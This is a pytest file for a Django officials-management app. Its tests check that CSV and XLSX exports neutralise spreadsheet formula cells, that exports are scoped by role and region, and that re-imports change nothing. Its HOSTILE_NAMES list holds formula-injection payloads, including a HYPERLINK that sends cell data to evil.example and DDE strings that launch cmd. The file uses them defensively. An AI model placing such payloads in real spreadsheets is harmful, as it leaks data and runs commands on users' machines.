"""Exports of officials and the import template: no cell can run as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from pakta.accounts.models import User
from pakta.core.roles import Role
from pakta.org import services as org
from pakta.org.imports import import_job_confirm, import_job_create
from pakta.org.models import Assignment, ImportJob, Official, Pemda, Position, Unit
from tests.conftest import client_for, make_user
from tests.kit import AuditWatch, make_nip

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+6281234567890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
TEMPLATE_REQUIRED = ["NIP", "NAMA", "JABATAN", "UNIT KERJA", "GOLONGAN", "ESELON/JENJANG"]


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    with translation.override("en"):
        yield


def english_client(user: User) -> Client:
    client = client_for(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def hostile_officials(pemda_a: Pemda, unit_a: Unit, superadmin: User) -> list[Official]:
    sub = org.unit_create(pemda=pemda_a, parent=unit_a, name="Bidang P2P", acting_user=superadmin)
    officials = []
    for index, name in enumerate(HOSTILE_NAMES):
        position = org.position_create(
            pemda=pemda_a,
            unit=sub if index % 2 else unit_a,
            title=f"Staf {index}",
            level="pelaksana",
            acting_user=superadmin,
        )
        official = org.official_create(
            pemda=pemda_a,
            nip=make_nip(index),
            name=name,
            golongan="=1+1" if index == 0 else "Penata (III/c)",
            acting_user=superadmin,
        )
        org.assignment_start(
            official=official,
            position=position,
            start_date=dt.date(2023, 1, 2),
            acting_user=superadmin,
        )
        officials.append(official)
    return officials


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> tuple[list[list[Any]], list[list[str]]]:
    """Values and openpyxl data types ("s" string, "f" formula, "n" number) of the first sheet."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = [[cell.data_type for cell in row] for row in sheet.iter_rows()]
    return values, types


def export(client: Client, pemda: Pemda, fmt: str) -> bytes:
    response = client.get(reverse("org:official_export", kwargs={"pemda": pemda.slug, "fmt": fmt}))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="pegawai-{pemda.slug}.{fmt}"'
    return response.getvalue()


def test_csv_export_neutralises_formula_cells(
    admin_client_a: Client, pemda_a: Pemda, hostile_officials: list[Official]
) -> None:
    rows = read_csv(export(admin_client_a, pemda_a, "csv"))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["NIP", "NAMA"]
    names = {row[1] for row in body}
    assert names == {"'" + name for name in HOSTILE_NAMES}
    by_nip = {row[0]: row for row in body}
    assert by_nip[make_nip(0)][header.index("GOLONGAN")] == "'=1+1"
    # Harmless cells are not touched.
    assert by_nip[make_nip(1)][header.index("GOLONGAN")] == "Penata (III/c)"
    assert by_nip[make_nip(1)][header.index("UNIT KERJA")] == "Bidang P2P"
    assert by_nip[make_nip(1)][header.index("TMT JABATAN")] == "2023-01-02"


def test_xlsx_export_neutralises_formula_cells(
    admin_client_a: Client, pemda_a: Pemda, hostile_officials: list[Official]
) -> None:
    values, types = read_xlsx(export(admin_client_a, pemda_a, "xlsx"))
    header = values[0]
    assert header[:2] == ["NIP", "NAMA"]
    assert {row[1] for row in values[1:]} == {"'" + name for name in HOSTILE_NAMES}
    assert all(t != "f" for row in types for t in row), "no cell may be a formula"
    # The NIP stays text: a number cell would lose its last digits.
    assert {row[0] for row in values[1:]} == {make_nip(i) for i in range(len(HOSTILE_NAMES))}
    assert all(row[0] == "s" for row in types[1:])


def test_export_of_a_kepala_opd_holds_only_their_subtree(
    pemda_a: Pemda, unit_a: Unit, superadmin: User, hostile_officials: list[Official]
) -> None:
    sub = Unit.objects.get(name="Bidang P2P")
    kepala = make_user("kepala-p2p", pemda_a, Role.KEPALA_OPD, unit=sub, granter=superadmin)
    rows = read_csv(export(english_client(kepala), pemda_a, "csv"))
    assert {row[0] for row in rows[1:]} == {make_nip(1), make_nip(3)}


def test_export_is_not_found_for_another_pemda(
    pemda_a: Pemda, other_pemda_admin: User, hostile_officials: list[Official]
) -> None:
    url = reverse("org:official_export", kwargs={"pemda": pemda_a.slug, "fmt": "csv"})
    assert english_client(other_pemda_admin).get(url).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_template_has_the_recognised_headers_and_imports_cleanly(
    admin_client_a: Client,
    role_users: dict[str, User],
    pemda_a: Pemda,
    fmt: str,
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    url = reverse("org:import_template", kwargs={"pemda": pemda_a.slug, "fmt": fmt})
    response = admin_client_a.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'filename="template-import-pegawai.{fmt}"')
    content = response.getvalue()
    header = read_csv(content)[0] if fmt == "csv" else read_xlsx(content)[0][0]
    for name in TEMPLATE_REQUIRED:
        assert name in header

    # The example row of the template is itself a valid import.
    with django_capture_on_commit_callbacks(execute=True):
        job = import_job_create(
            pemda=pemda_a,
            file_name=f"template.{fmt}",
            content=content,
            acting_user=role_users["admin"],
        )
    job.refresh_from_db()
    assert job.status == ImportJob.Status.PREVIEW, job.errors
    with django_capture_on_commit_callbacks(execute=True):
        import_job_confirm(job=job, acting_user=role_users["admin"])
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE, job.errors
    assert job.summary["officials_created"] == 1


def test_template_is_for_admins_only(role_users: dict[str, User], pemda_a: Pemda) -> None:
    url = reverse("org:import_template", kwargs={"pemda": pemda_a.slug, "fmt": "csv"})
    assert english_client(role_users["pegawai"]).get(url).status_code == 403


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reimporting_an_export_changes_nothing(
    admin_client_a: Client,
    role_users: dict[str, User],
    pemda_a: Pemda,
    hostile_officials: list[Official],
    fmt: str,
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    """Download, upload again: the quote that neutralised a cell is not taken into the name."""
    before = (
        sorted(Official.objects.values_list("nip", "name", "golongan")),
        sorted(
            Assignment.objects.values_list("official_id", "position_id", "start_date", "end_date")
        ),
        Unit.objects.count(),
        Position.objects.count(),
    )
    content = export(admin_client_a, pemda_a, fmt)
    watch = AuditWatch()

    with django_capture_on_commit_callbacks(execute=True):
        job = import_job_create(
            pemda=pemda_a,
            file_name=f"pegawai.{fmt}",
            content=content,
            acting_user=role_users["admin"],
        )
    job.refresh_from_db()
    assert job.status == ImportJob.Status.PREVIEW, job.errors
    with django_capture_on_commit_callbacks(execute=True):
        import_job_confirm(job=job, acting_user=role_users["admin"])
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE, job.errors
    assert job.summary["unchanged"] == len(HOSTILE_NAMES)
    after = (
        sorted(Official.objects.values_list("nip", "name", "golongan")),
        sorted(
            Assignment.objects.values_list("official_id", "position_id", "start_date", "end_date")
        ),
        Unit.objects.count(),
        Position.objects.count(),
    )
    assert after == before
    assert watch.actions() == ["org.import.uploaded", "org.import.confirmed", "org.import.applied"]
